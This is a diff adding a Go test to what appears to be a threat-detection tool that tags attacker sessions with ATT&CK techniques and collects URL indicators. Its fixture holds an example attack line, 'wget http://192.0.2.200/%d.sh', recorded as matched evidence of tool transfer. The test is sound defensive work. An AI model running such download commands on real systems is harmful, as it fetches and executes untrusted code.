@@ -9,6 +9,8 @@ import (
 	"ttpctl/internal/attack"
 	"ttpctl/internal/event"
 	"ttpctl/internal/report"
+	"ttpctl/internal/report/sessions"
+	"ttpctl/internal/store"
 )
 
 func TestCountries(t *testing.T) {
@@ -132,6 +134,42 @@ func TestStored(t *testing.T) {
 	}
 	if len(d.Indicators) == 0 {
 		t.Error("no indicator, want the host of the URL")
+	}
+}
+
+// Of what a database kept there may be more than there is room for: then tags say what
+// they say without it, and no indicator is lost.
+func TestKeptWithoutRoom(t *testing.T) {
+	const many = 200
+	var lines []byte
+	for i := range 60 {
+		lines = fmt.Appendf(lines, `{"kind":"command","id":"%d","text":"%s"}`+"\n", i, strings.Repeat("x", 4000))
+	}
+	b := New(Config{Catalogue: attack.Load(), Stored: true})
+	for i := range many {
+		if err := b.Kept(&store.KeptLines{Session: fmt.Sprint("s", i), Lines: lines}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for i := range many {
+		b.Tag([]event.Tag{{
+			SourceKind: "command", SourceID: "1", SessionID: event.Some(fmt.Sprint("s", i)), AttackerIP: "203.0.113.9", Tactic: "TA0011", Technique: "T1105", RuleID: "R0012",
+			Confidence: 0.9, Evidence: fmt.Appendf(nil, `{"matched":"wget http://192.0.2.200/%d.sh"}`, i), ObservedAt: "2026-11-22T10:00:00Z",
+		}})
+	}
+	forgotten, urls := 0, 0
+	for _, s := range b.keeper.Sessions(sessions.ByTelling) {
+		if len(s.Lines) == 0 {
+			forgotten++
+		}
+	}
+	for _, i := range b.Dossier().Indicators {
+		if i.Kind == KindURL {
+			urls++
+		}
+	}
+	if forgotten == 0 || urls != forgotten {
+		t.Errorf("the lines of %d sessions were forgotten, and %d URLs are of their tags", forgotten, urls)
 	}
 }
 
